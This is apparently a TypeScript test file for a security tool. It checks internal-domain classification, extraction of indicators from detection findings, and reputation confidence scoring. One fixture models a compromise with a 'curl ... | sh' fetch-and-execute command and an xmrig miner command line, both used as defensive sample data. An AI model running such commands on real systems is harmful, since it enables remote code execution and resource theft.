import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { arbitraryFact } from '../../test/arbitraries/evidence.ts';
import { sampleFinding } from '../../test/fakes/findings.ts';
import type { Fact } from '../evidence/fact.ts';
import type { NormalizedFinding } from '../ocsf/detection-finding.ts';
import { classifyDomain } from './domain-name.ts';
import { indicatorsOf } from './indicators.ts';
import { confidenceOf, MALICIOUS_CONFIDENCE, type Opinion } from './opinion.ts';

const NOTHING_OWN = { internalDomains: [], ownNetworks: [] };
const MD5 = 'c0ffee00c0ffee00c0ffee00c0ffee00';
const SHA256 = 'ab'.repeat(32);

function findingWith(change: Partial<NormalizedFinding['finding']>): NormalizedFinding {
  const finding = sampleFinding();
  return { ...finding, finding: { ...finding.finding, ...change } };
}

describe('classifyDomain', () => {
  it.each([
    'db.payments.svc.cluster.local',
    'kubernetes.default.svc',
    'checkout',
    'ip-10-0-12-34.ec2.internal',
    'printer.local',
    'vault.corp',
    'x.test',
    'something.example',
    '4.3.2.1.in-addr.arpa',
    'orders.abcdef.us-east-1.rds.amazonaws.com',
    'internal-orders-123.us-east-1.elb.amazonaws.com',
    '111122223333.dkr.ecr.us-east-1.amazonaws.com',
    '10.0.0.1',
    'a_b.c d',
    'x'.repeat(64).concat('.com'),
    '',
    '-x.com',
    'exa\u200bmple.com',
  ])('keeps %s here', (name) => {
    expect(classifyDomain(name)).toEqual({ kept: expect.any(String) });
  });

  it('lets a public name leave, in one spelling', () => {
    expect(classifyDomain('Pool.Example.NET.')).toEqual({ value: 'pool.example.net' });
    expect(classifyDomain('xn--bcher-kva.example.com')).toEqual({ value: 'xn--bcher-kva.example.com' });
    expect(classifyDomain('notlocal.com')).toEqual({ value: 'notlocal.com' });
  });

  it('keeps what is configured as internal, with and without the asterisk, and no name that merely ends alike', () => {
    expect(classifyDomain('git.corp.example.com', ['corp.example.com'])).toEqual({ kept: 'configured as internal' });
    expect(classifyDomain('corp.example.com', ['*.corp.example.com'])).toEqual({ kept: 'configured as internal' });
    expect(classifyDomain('xcorp.example.com', ['corp.example.com'])).toEqual({ value: 'xcorp.example.com' });
  });
});

describe('indicatorsOf', () => {
  it('takes addresses, names, hashes and vulnerabilities from a finding, the most telling first', () => {
    const finding = findingWith({
      vulnerabilities: [{ cve: { uid: 'cve-2021-44228' } }, { advisory: { uid: 'PRISMA-1' } }],
      evidences: [
        {
          process: {
            path: '/tmp/.x/xmrig',
            cmd_line: '/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333',
            file: { name: 'xmrig', type_id: 1, hashes: [{ algorithm_id: 1, value: MD5 }] },
            parent_process: { cmd_line: 'sh -c curl http://45.9.148.10/x.sh | sh' },
          },
          dst_endpoint: { ip: '45.9.148.10', port: 3333 },
        },
        { src_endpoint: { ip: '8.8.4.4' }, dst_endpoint: { ip: '9.9.9.9' }, connection_info: { direction_id: 1 } },
      ],
    });
    expect(indicatorsOf([finding], [], NOTHING_OWN)).toMatchObject({
      cves: ['CVE-2021-44228'],
      indicators: [
        { kind: 'hash', value: MD5, entities: [{ kind: 'file', canonical: '/tmp/.x/xmrig' }] },
        { kind: 'domain', value: 'pool.example.net', ourSide: 'client' },
        { kind: 'ip', value: '45.9.148.10', ourSide: 'client' },
        { kind: 'ip', value: '8.8.4.4', ourSide: 'server' },
      ],
    });
  });

  it('sends no hash of a program that lies in the image - it would tell others what we build', () => {
    const inImage = findingWith({
      evidences: [
        {
          process: {
            path: '/app/checkout',
            file: { name: 'checkout', type_id: 1, hashes: [{ algorithm_id: 3, value: SHA256 }] },
          },
        },
      ],
    });
    expect(indicatorsOf([inImage], [], NOTHING_OWN).indicators).toEqual([]);
  });

  it('sends no digest of an image or a container, even where it poses as the hash of a file', () => {
    const finding = findingWith({
      evidences: [
        { file: { name: 'x', type_id: 1, path: '/tmp/x', hashes: [{ algorithm_id: 3, value: '3f'.repeat(32) }] } },
        { file: { name: 'y', type_id: 1, path: '/tmp/y', hashes: [{ algorithm_id: 3, value: '9C'.repeat(32) }] } },
        { file: { name: 'z', type_id: 1, path: '/tmp/z', hashes: [{ algorithm_id: 3, value: SHA256 }] } },
      ],
    });
    const { indicators, keptBack } = indicatorsOf([finding], [], NOTHING_OWN);
    expect(indicators.map(({ value }) => value)).toEqual([SHA256]);
    expect(keptBack).toBe(2);
  });

  it('adds what the parts of the evidence know: connections, names, vulnerabilities of the image', () => {
    const facts: Fact[] = [
      {
        kind: 'connection',
        direction: 'outbound',
        destinationIp: '45.9.148.10',
        destinationPort: 443,
        at: '2025-10-14T09:15:52.000Z',
      },
      { kind: 'dns-query', domain: 'pool.example.net', at: '2025-10-14T09:15:52.000Z' },
      {
        kind: 'vulnerability',
        cve: 'CVE-2023-44487',
        severity: 'high',
        packageName: 'x',
        packageVersion: '1',
        exploitInTheWild: false,
        exploitPublic: false,
        remote: false,
      },
    ];
    const { indicators, cves } = indicatorsOf([sampleFinding()], facts, NOTHING_OWN);
    expect(indicators.map(({ value }) => value)).toEqual(['45.9.148.10', 'pool.example.net']);
    expect(cves).toEqual(['CVE-2023-44487']);
  });

  it('lets nothing out but public addresses, public names and hashes, whatever the evidence holds', () => {
    fc.assert(
      fc.property(fc.array(arbitraryFact, { maxLength: 10 }), (facts) => {
        const { indicators, cves } = indicatorsOf([sampleFinding()], facts, NOTHING_OWN);
        for (const { kind, value } of indicators) {
          expect(value).toMatch(/^[0-9a-z._:-]{3,253}$/);
          expect(value).not.toMatch(/^(?:10|127|192\.168|203\.0\.113)\./);
          if (kind === 'domain') expect(classifyDomain(value)).toEqual({ value });
        }
        for (const cve of cves) expect(cve).toMatch(/^CVE-\d{4}-\d{4,19}$/);
      }),
    );
  });
});

describe('confidenceOf', () => {
  const said = (verdict: Opinion['verdict'], weight: number): Opinion => ({ verdict, detail: 'x', weight });
  const weights = fc.array(
    fc.double({ min: -3, max: 3, noNaN: true }).map((weight) => said(weight > 0 ? 'malicious' : 'harmless', weight)),
  );

  it('is nothing when nobody has an opinion - not being known is no sign of anything', () => {
    expect(confidenceOf([])).toBeUndefined();
    expect(confidenceOf([said('unknown', 0), said('unknown', 0)])).toBeUndefined();
  });

  it('is known to be malicious by a file many engines name, but never by one source about an address', () => {
    expect(confidenceOf([said('malicious', 3)])).toBeGreaterThanOrEqual(MALICIOUS_CONFIDENCE);
    expect(confidenceOf([said('malicious', 1.5)])).toBeLessThan(MALICIOUS_CONFIDENCE);
    expect(
      confidenceOf([said('malicious', 1.5), said('malicious', 1.5), said('malicious', 1.2)]),
    ).toBeGreaterThanOrEqual(MALICIOUS_CONFIDENCE);
    expect(confidenceOf([said('harmless', -1.5)])).toBeLessThan(10);
  });

  it('does not depend on the order, stays within 0 and 100, and never falls by one more who calls it malicious', () => {
    fc.assert(
      fc.property(weights, fc.double({ min: 0, max: 3, noNaN: true }), (opinions, more) => {
        const before = confidenceOf(opinions);
        expect(confidenceOf([...opinions].reverse())).toBe(before);
        const after = confidenceOf([...opinions, said('malicious', more)]) ?? -1;
        expect(after).toBeGreaterThanOrEqual(opinions.length === 0 ? 0 : (before ?? 0));
        expect(after).toBeLessThanOrEqual(100);
      }),
    );
  });
});
